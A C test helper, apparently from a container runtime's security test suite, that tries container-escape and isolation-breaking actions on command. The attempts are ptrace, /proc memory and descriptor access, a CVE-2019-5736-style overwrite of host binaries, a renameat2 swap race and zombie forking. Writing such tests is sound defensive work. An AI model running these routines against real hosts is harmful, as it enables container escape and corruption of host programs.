// What a hostile program in a container would try; each attempt is told in a line. The checks of topics/attacks.sh say what must come of it.
#define _GNU_SOURCE
#include <errno.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int tell(const char *what, long result) {
  printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
  fflush(stdout);
  return 0;
}

// ids: who we are after an exec, which is where a setuid bit counts.
static int ids(void) {
  printf("uid %d euid %d\n", getuid(), geteuid());
  return 0;
}

// trace PID: the ways into another process.
static int trace(pid_t pid) {
  char path[64];
  long seized = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
  tell("ptrace", seized);
  if (seized == 0)
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  tell("memory", open(path, O_RDWR));
  snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
  tell("descriptors", open(path, O_RDONLY));
  snprintf(path, sizeof path, "/proc/%d/root/etc", pid);
  tell("root", open(path, O_RDONLY | O_DIRECTORY));
  return tell("signal", kill(pid, 0));
}

// overwrite UNTIL: CVE-2019-5736, until that file is there. Whatever program runs here without being one of the image's is opened, and written as soon as nobody runs it.
static int overwrite(const char *until) {
  int held[64], count = 0, written = 0;
  while (access(until, F_OK) < 0) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
      char path[64], target[256] = "";
      int pid = atoi(entry->d_name);
      if (pid <= 1)
        continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      if (readlink(path, target, sizeof target - 1) <= 0 || strncmp(target, "/bin/", 5) == 0)
        continue;
      int fd = open(path, O_PATH);
      if (fd >= 0 && count < 64)
        held[count++] = fd;
      else if (fd >= 0)
        close(fd);
    }
    if (processes != NULL)
      closedir(processes);
    for (int i = 0; i < count; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int fd = open(path, O_WRONLY);
      if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) > 0)
        written++;
      if (fd >= 0)
        close(fd);
    }
  }
  printf("seen %s, written %d\n", count > 0 ? "some" : "none", written);
  return 0;
}

// swap A B: exchanges two names as fast as it can, for ever.
static int swap(const char *a, const char *b) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
      return tell("exchange", -1);
}

// zombies COUNT: children that end while nobody waits for them, and grandchildren that lose their parent.
static int zombies(int count) {
  for (int i = 0; i < count; i++) {
    pid_t child = fork();
    if (child < 0)
      return tell("fork", -1);
    if (child == 0) {
      if (fork() == 0)
        _exit(0);
      _exit(0);
    }
  }
  printf("made %d\n", count);
  fflush(stdout);
  pause();
  return 0;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (strcmp(what, "ids") == 0)
    return ids();
  if (strcmp(what, "trace") == 0 && argc == 3)
    return trace(atoi(argv[2]));
  if (strcmp(what, "overwrite") == 0 && argc == 3)
    return overwrite(argv[2]);
  if (strcmp(what, "swap") == 0 && argc == 4)
    return swap(argv[2], argv[3]);
  if (strcmp(what, "zombies") == 0 && argc == 3)
    return zombies(atoi(argv[2]));
  fprintf(stderr, "attacker: unknown attempt %s\n", what);
  return 2;
}
